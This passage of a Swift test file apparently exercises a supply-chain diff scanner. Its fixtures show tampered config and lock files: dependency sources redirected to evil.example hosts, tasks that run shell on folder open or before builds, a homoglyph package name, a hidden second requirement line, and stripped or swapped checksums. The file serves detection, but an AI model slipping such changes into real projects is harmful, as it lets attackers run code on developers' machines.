      "{\"default-registry\": {\"kind\": \"git\", \"repository\": \"https://git.example/evil/vcpkg\", \"baseline\": \"\(commit)\"}}\n",
      "234 high"),
    Row(
      ".NET: a tool of another package", ".config/dotnet-tools.json",
      "{\"version\": 1, \"isRoot\": true, \"tools\": {\"a\": {\"version\": \"1.0.0\", \"commands\": [\"a\"]}}}\n",
      "{\"version\": 1, \"isRoot\": true, \"tools\": {\"evil\": {\"version\": \"1.0.0\", \"commands\": [\"a\"]}}}\n",
      "high"),
    Row(
      ".NET: an SDK of its own", "global.json", "{\"sdk\": {\"version\": \"8.0.100\"}}\n",
      "{\"sdk\": {\"version\": \"8.0.100\"}, \"msbuild-sdks\": {\"Evil.Sdk\": \"1.0.0\"}}\n", "high"
    ),
    Row(
      "mise: another backend of a tool", "mise.toml", "[tools]\na = \"1\"\n",
      "[tools]\n\"github:evil/a\" = \"1\"\n", "234 high"),
    Row(
      "devcontainer: a feature of another registry", ".devcontainer/devcontainer.json",
      "{\"image\": \"a:1\", \"features\": {\"ghcr.io/o/f/node:1\": {}}}\n",
      "{\"image\": \"a:1\", \"features\": {\"ghcr.io/evil/f/node:1\": {}}}\n", "high"),
    Row(
      "Dart: the address of a hosted package", "pubspec.yaml",
      "name: a\ndependencies:\n  b: ^1.0.0\n",
      "name: a\ndependencies:\n  b:\n    hosted: https://pub.evil.example\n    version: ^1.0.0\n",
      "high"),
    Row(
      "Go: a workspace's replacement", "go.work", "go 1.22\n\nuse ./a\n",
      "go 1.22\n\nuse ./a\n\nreplace a.example/a => evil.example/a v1.0.0\n", "234 high"),
    Row(
      "Maven: a repository", "pom.xml", "<project>\n</project>\n",
      "<project>\n<repositories><repository><id>a</id><url>https://evil.example</url></repository></repositories>\n</project>\n",
      "234 high"),
    Row(
      "Maven: a plug-in of the build", "pom.xml", "<project>\n</project>\n",
      "<project>\n<build><plugins><plugin><groupId>g</groupId><artifactId>a</artifactId><version>1</version></plugin></plugins></build>\n</project>\n",
      "224 high"),
    Row(
      "MSBuild: a target before the build", "a.csproj", "<Project>\n</Project>\n",
      "<Project>\n<Target Name=\"x\" BeforeTargets=\"Build\"><Exec Command=\"sh x\"/></Target>\n</Project>\n",
      "224 high"),
    Row(
      "MSBuild: sources of its own", "a.csproj", "<Project>\n</Project>\n",
      "<Project>\n<PropertyGroup><RestoreSources>https://evil.example</RestoreSources></PropertyGroup>\n</Project>\n",
      "high"),
    Row(
      "Gradle: a plug-in of the catalog", "gradle/libs.versions.toml",
      "[libraries]\na = \"g:a:1.0\"\n",
      "[libraries]\na = \"g:a:1.0\"\n[plugins]\nx = \"evil.plugin:1.0\"\n", "224 high"),
    Row(
      "Rust: a toolchain of a folder", "rust-toolchain.toml", "[toolchain]\nchannel = \"1.80\"\n",
      "[toolchain]\npath = \"./x\"\n", "234 high"),
    Row(
      "Bazel: flags of every build", ".bazelrc", "build --jobs=2\n",
      "build --jobs=2\ncommon --registry=https://evil.example/\n", "high"),
    Row(
      "Git: an attribute hides a lock that changes with it",
      [
        (".gitattributes", "*.png binary\n", "*.png binary\n*.lock -diff linguist-generated\n"),
        ("Cargo.lock", cargo(crates), cargo(crates).replacing("1.0.0", with: "1.0.1")),
      ], "239 high"),
    Row(
      "Renovate: a preset of another repository, with a lock",
      [
        (
          "renovate.json", "{\"extends\": [\"config:base\"]}\n",
          "{\"extends\": [\"github>evil/presets\"]}\n"
        ),
        ("Cargo.lock", cargo(crates), cargo(crates).replacing("1.0.0", with: "1.0.1")),
      ], "239 notice"),
    Row(
      "VS Code: a task when the folder opens", ".vscode/tasks.json",
      "{\"version\": \"2.0.0\", \"tasks\": []}\n",
      "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"command\": \"sh x\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
      "high"),
    Row(
      "Julia: another tree at one version", "Manifest.toml",
      julia("git-tree-sha1 = \"\(commit)\""), julia("git-tree-sha1 = \"\(Judged.hex("b", 20))\""),
      "211 critical"),
    Row(
      "Julia: a package of a repository", "Manifest.toml", julia("git-tree-sha1 = \"\(commit)\""),
      julia(
        "git-tree-sha1 = \"\(commit)\"\nrepo-rev = \"main\"\nrepo-url = \"https://git.example/evil/a\""
      ), "critical"),
    Row(
      "Gleam: another outer digest", "manifest.toml", gleam("1.0.0", Judged.hex("A")),
      gleam("1.0.0", Judged.hex("B")), "211 critical"),
    Row(
      "Gleam: no digest, at a bump", "manifest.toml", gleam("1.0.0", Judged.hex("A")),
      gleam("1.0.1", ""), "212 critical"),
    Row(
      "Elixir: no outer digest", "mix.lock",
      "%{\n  \"a\": {:hex, :a, \"1.0.0\", \"\(sha)\", [:mix], [], \"hexpm\", \"\(sha)\"},\n}\n",
      "%{\n  \"a\": {:hex, :a, \"1.0.0\", \"\(sha)\", [:mix], [], \"hexpm\"},\n}\n", "213 critical"),
    Row(
      "bun: scripts of a package are allowed", "bun.lock",
      bun(""), bun("\"trustedDependencies\": [\"ms\"],\n"), "224 high"),
    Row(
      "bun: an override in the lock", "bun.lock", bun(""),
      bun("\"overrides\": {\"ms\": \"npm:evil@1\"},\n"), "high"),
    Row(
      "pnpm: an override in the lock", "pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters: {}\n",
      "lockfileVersion: '9.0'\noverrides:\n  ms: npm:evil@1\nimporters: {}\n", "234 high"),
    Row(
      "pnpm: a patch of a package", "pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters: {}\n",
      "lockfileVersion: '9.0'\npatchedDependencies:\n  ms: {hash: aa, path: patches/ms.patch}\nimporters: {}\n",
      "high"),
    Row(
      "composer: an alias of a branch", "composer.lock", composer("[]"),
      composer(
        "[{\"package\": \"a/a\", \"version\": \"9999999-dev\", \"alias\": \"1.0.0\", \"alias_normalized\": \"1.0.0.0\"}]"
      ),
      "high"),
    Row(
      "NuGet: a name in other letters", "packages.lock.json",
      "{\"version\": 1, \"dependencies\": {\"net8.0\": {\"Serilog\": {\"type\": \"Direct\", \"resolved\": \"1.0.0\", \"contentHash\": \"\(Judged.sha512("A").dropFirst(7))\"}}}}\n",
      "{\"version\": 1, \"dependencies\": {\"net8.0\": {\"Ser\u{456}log\": {\"type\": \"Direct\", \"resolved\": \"1.0.0\", \"contentHash\": \"\(Judged.sha512("A").dropFirst(7))\"}}}}\n",
      "233 critical"),
    Row(
      "requirements: a second line behind a form feed", "requirements.txt", "a==1\n",
      "a==1 # x\u{c}evil==1\n", "opaque"),
    Row(
      "requirements: hashes are no more required", "requirements.txt",
      "--require-hashes\na==1 --hash=sha256:\(sha)\n", "a==1 --hash=sha256:\(sha)\n", "234 high"),
    Row(
      "spack: another archive of a mirror", "aqua-checksums.json",
      "{\"checksums\": [{\"id\": \"github_release/github.com/o/a/v1.0.0/a.tar.gz\", \"checksum\": \"\(sha)\", \"algorithm\": \"sha256\"}]}\n",
      "{\"checksums\": [{\"id\": \"github_release/github.com/o/a/v1.0.0/a.tar.gz\", \"checksum\": \"\(Judged.hex("b"))\", \"algorithm\": \"sha256\"}]}\n",
      "211 critical"),
    Row(
      "fastlane: a plug-in of another repository", "fastlane/Pluginfile",
      "gem 'fastlane-plugin-a'\n", "gem 'fastlane-plugin-a', git: 'https://git.example/evil/a'\n",
      "234 high"),
    Row(
      "fastlane: a lane's program", "fastlane/Fastfile", "lane :a do\nend\n",
      "lane :a do\n  sh 'x'\nend\n", "224 high"),
    Row(
      "fastlane: lanes of another repository", "fastlane/Fastfile", "lane :a do\nend\n",
      "import_from_git(url: 'https://git.example/evil/f')\nlane :a do\nend\n", "224 high"),
    Row(
      "fastlane: settings of the app are a program", "fastlane/Appfile", "app_identifier 'a'\n",
      "app_identifier 'a'\n`sh x`\n", "224 high"),
  ]

  private static func julia(_ lines: String) -> String {
    """
    julia_version = "1.10.0"
    manifest_format = "2.0"
    project_hash = "\(commit)"

    [[deps.A]]
    \(lines)
    uuid = "00000000-0000-0000-0000-000000000001"
    version = "1.0.0"

    """
  }

  private static func gleam(_ version: String, _ digest: String) -> String {
    """
    packages = [
      { name = "a", version = "\(version)", build_tools = ["gleam"], requirements = [], otp_app = "a", source = "hex", outer_checksum = "\(digest)" },
    ]

    [requirements]
    a = { version = ">= 1.0.0" }

    """
  }

  private static func bun(_ members: String) -> String {
    """
    {"lockfileVersion": 1, "workspaces": {"": {"name": "app", "dependencies": {"ms": "*"}}},
    \(members)"packages": {
    "ms": ["ms@2.1.3", "", {}, "\(Judged.sha512("A"))"]
    }}

    """
  }

  private static func composer(_ aliases: String) -> String {
    """
    {"content-hash": "00", "packages": [], "packages-dev": [],
    "aliases": \(aliases),
    "minimum-stability": "stable"}

    """
  }

  private static func pixi(_ reference: String) -> String {
    """
    version: 6
    environments:
      default:
        channels:
        - url: https://conda.example/
        packages:
          linux-64:
          - conda: \(reference)
    packages:
    - conda: https://conda.example/linux-64/a-1.0-0.conda
      sha256: \(sha)

    """
  }

  private static func berry(_ checksum: String) -> String {
    """
    __metadata:
      version: 8
      cacheKey: 10c0

    "ms@npm:*":
      version: 2.1.3
      resolution: "ms@npm:2.1.3"
      checksum: \(checksum)
      languageName: node
      linkType: hard

    """
  }

  func check(_ row: Row) throws {
    let diff = try Judged.diff(row.files)
    let unread = diff.files.compactMap(\.unread)
    guard row.expected != "opaque" else {
      #expect(!unread.isEmpty, "\(diff.findings.map { "\($0.code) \($0.severity): \($0.detail)" })")
      return
    }
    #expect(unread.isEmpty, "\(unread)")
    #expect(!diff.isNeutral)
    let found = diff.findings.map { "\($0.code) \($0.severity): \($0.detail)" }
    #expect(found.contains { $0.contains(row.expected) }, "\(found)")
  }

  @Test("names that the project itself asks for are compared with each other", arguments: names)
  func nearNames(_ row: Row) throws { try check(row) }

  @Test("what other packages bring is not compared with each other")
  func transitiveNames() throws {
    let lock = Self.transitive("MIT").replacing("acme-ledger\": \"1\"}}", with: "x\": \"1\"}}")
    let found = try Judged.findings("package-lock.json", nil, lock)
    #expect(!found.contains { $0.hasPrefix("226 high") }, "\(found)")
  }

  @Test("no reader of YAML takes a byte-order mark: who reads on behind it is not known of all")
  func marks() throws {
    let files = [
      (".github/workflows/ci.yml", "name: a\n"), (".gitlab-ci.yml", "image: a\n"),
      ("compose.yml", "services: {}\n"), ("pnpm-workspace.yaml", "packages: []\n"),
      (".pre-commit-config.yaml", "repos: []\n"), ("pubspec.yaml", "name: a\n"),
      ("action.yml", "name: a\n"), ("lefthook.yml", "output: []\n"),
      ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"), ("Chart.yaml", "name: a\n"),
    ]
    for (path, text) in files {
      let diff = try Judged.diff([(path, text, "\u{feff}" + text)])
      #expect(diff.files.first?.unread?.reason == .byteOrderMark, "\(path)")
      #expect(diff.findings.contains { $0.code == 232 && $0.severity == .critical }, "\(path)")
    }
  }

  @Test("a setting that moves where code comes from, or what runs", arguments: configuration)
  func settings(_ row: Row) throws { try check(row) }

  @Test("a manifest or a pipeline that asks for something else", arguments: manifests)
  func wishes(_ row: Row) throws { try check(row) }

  @Test("the same in tools that were not tried", arguments: more)
  func others(_ row: Row) throws { try check(row) }

  @Test("a lock that says something else of one package", arguments: locks)
  func entries(_ row: Row) throws { try check(row) }
}
